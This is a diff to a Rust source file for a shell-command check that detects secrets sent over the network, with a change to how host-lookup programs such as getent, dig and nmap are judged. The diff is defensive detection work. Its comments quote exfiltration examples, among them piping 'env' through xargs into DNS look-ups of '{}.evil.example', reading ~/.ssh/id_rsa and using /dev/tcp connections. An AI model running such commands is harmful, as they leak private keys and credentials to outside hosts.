@@ -1,8 +1,8 @@
 //! `secret-exfiltration`: private keys, credentials and environment dumps sent over the network.
 
 use super::common::{
-    ask, deny, fed_globs, fed_words, holds_secrets, is_raw_device, is_sender, pipelines_of, prog,
-    text, units_within,
+    ask, deny, fed_globs, fed_words, holds_secrets, is_host_lookup, is_raw_device, is_sender,
+    pipelines_of, prog, text, units_within,
 };
 use super::{Check, CheckCtx, Finding, declare_check, git_config};
 use crate::files::secret_glob::{glob_may_be_secret, name_may_be_secret};
@@ -870,11 +870,13 @@ fn counted(a: &Analysis, i: usize) -> bool {
 }
 
 /// Programs a secret's path among whose operands is not a read of it: those that only name
-/// their paths ([`crate::programs::is_names_only`]) and those that print the environment,
-/// which the check judges on its own.
+/// their paths ([`crate::programs::is_names_only`]), those that look up the host names among
+/// them ([`is_host_lookup`]), and those that print the environment, which the check judges on
+/// its own.
 fn names_only(p: &str) -> bool {
     matches!(p, "env" | "printenv" | "set" | "export" | "declare")
         || crate::programs::is_names_only(p)
+        || is_host_lookup(p)
 }
 
 /// A secret file a wrapper reads into the command's arguments (`xargs -a ~/.ssh/id_rsa echo`).
@@ -1024,10 +1026,19 @@ fn secret_args(u: &Unit) -> Option<String> {
     // `openssl x509 -in server.pem`: x509 prints only the certificates the file holds, never a
     // key beside them; a glob or brace word there is still judged below.
     let certificate = crate::analyze::certificate_input(u);
+    // `getent hosts .env.example`, `ping -c 1 .env.example`: a look-up's operands are names it
+    // looks up, not files it reads; an option's value may be one (`dig -f .env`, `nmap -iL .env`).
+    let names = program.is_some_and(crate::programs::is_host_lookup);
+    let mut after_option = false;
     for (k, a) in u.args().enumerate() {
         let t = text(a);
+        let option_value =
+            std::mem::replace(&mut after_option, t.starts_with('-') && !t.contains('='));
         if skip {
             skip = false;
+            continue;
+        }
+        if names && !a.glob && !option_value && !t.starts_with('-') {
             continue;
         }
         // `u.args()` starts at the first argument, `argv[1]`.
@@ -1565,9 +1576,9 @@ impl Check for SecretExfiltration {
             // its DNS server), a file of any name included.
             if let Some(p) = prog(u).filter(|p| {
                 !crate::programs::is_printer_name(p) && !matches!(*p, "echo" | "printf")
-            }) && !is_sender(p)
+            }) && (!is_sender(p) || is_host_lookup(p))
             {
-                let resolver = matches!(p, "getent" | "resolvectl" | "host" | "nslookup" | "dig");
+                let resolver = is_host_lookup(p);
                 let built = u.args().find(|x| {
                     x.value.is_none()
                         && (resolver || x.template.contains("://"))
@@ -1611,9 +1622,9 @@ impl Check for SecretExfiltration {
             // `env | xargs -I{} getent hosts {}.evil.example`, `git remote -v | xargs -I{} git
             // ls-remote https://x/{}`: xargs (or parallel) turns what the pipeline printed into
             // the program's arguments, so a secret printed upstream goes wherever the program
-            // sends its arguments. Senders are judged below with their whole pipeline.
+            // sends its arguments. Other senders are judged below with their whole pipeline.
             if let Some(p) = prog(u).filter(|p| {
-                !is_sender(p)
+                (!is_sender(p) || is_host_lookup(p))
                     && !crate::programs::is_printer_name(p)
                     && !matches!(*p, "echo" | "printf")
             }) && u
@@ -1621,17 +1632,13 @@ impl Check for SecretExfiltration {
                 .iter()
                 .any(|w| matches!(w.as_str(), "xargs" | "parallel"))
             {
-                let resolver = matches!(p, "getent" | "resolvectl" | "host" | "nslookup" | "dig");
+                let resolver = is_host_lookup(p);
                 let endpoint = resolver || u.args().any(|x| x.template.contains("://"));
-                // Static text (`echo a b | xargs getent hosts`, `echo .env | xargs ls`) is the
-                // line's own words: a secret's name, never its content.
-                let static_text = |r: &Unit| {
-                    matches!(prog(r), Some("echo" | "printf"))
-                        && r.args().all(|x| x.value.is_some())
-                };
                 let upstream = pipelines_of(a, u).into_iter().find_map(|span| {
                     units_within(a, span)
-                        .filter(|(j, r)| *j != i && r.span.end <= u.span.start && !static_text(r))
+                        .filter(|(j, r)| {
+                            *j != i && r.span.end <= u.span.start && !static_printer(r)
+                        })
                         .find_map(|(_, r)| {
                             reads_secret_in(cx, r).map(|s| (s, prog(r).unwrap_or("?")))
                         })
@@ -1657,8 +1664,9 @@ impl Check for SecretExfiltration {
                 // upstream becomes the name looked up or a part of the URL fetched.
                 if endpoint
                     && pipelines_of(a, u).iter().any(|span| {
-                        units_within(a, *span)
-                            .any(|(j, r)| j != i && r.span.end <= u.span.start && !static_text(r))
+                        units_within(a, *span).any(|(j, r)| {
+                            j != i && r.span.end <= u.span.start && !static_printer(r)
+                        })
                     })
                 {
                     out.push(ask(
@@ -1783,6 +1791,11 @@ impl Check for SecretExfiltration {
                     if prog(r) == Some(p) && prints_secret(r).is_some() {
                         continue;
                     }
+                    // `printf '%s\n' .env | xargs -I{} getent hosts {}.x`: a look-up is handed
+                    // the words printed, a secret's name and never its content.
+                    if is_host_lookup(p) && static_printer(r) {
+                        continue;
+                    }
                     if let Some(s) = reads_secret_in(cx, r) {
                         out.push(deny(
                             Some(i),
@@ -1799,6 +1812,12 @@ impl Check for SecretExfiltration {
             }
         }
     }
+}
+
+/// Static text (`echo a b`, `printf '%s\n' .env`): the line's own words, a secret's name and
+/// never its content.
+fn static_printer(r: &Unit) -> bool {
+    matches!(prog(r), Some("echo" | "printf")) && r.args().all(|x| x.value.is_some())
 }
 
 /// `/dev/tcp/host/port`, `/dev/udp/host/port`: bash opens a connection.
